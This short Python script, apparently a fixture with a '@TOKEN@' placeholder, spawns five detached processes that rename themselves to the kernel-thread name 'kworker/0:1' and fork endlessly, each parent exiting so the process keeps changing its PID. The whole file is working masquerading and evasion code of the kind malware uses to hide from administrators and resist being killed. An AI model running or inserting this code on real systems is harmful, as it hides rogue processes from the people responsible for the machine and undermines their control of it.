"""Starts processes under names of the system's own services, which end and start each other again."""

# %%
import os
import subprocess
import sys

code = """
import os, time, ctypes
ctypes.CDLL(None).prctl(15, b"kworker/0:1")
while True:
    if os.fork():
        os._exit(0)
    time.sleep(0.005)
"""
for _ in range(5):
    subprocess.Popen([sys.executable, "-c", code, "@TOKEN@"], start_new_session=True)
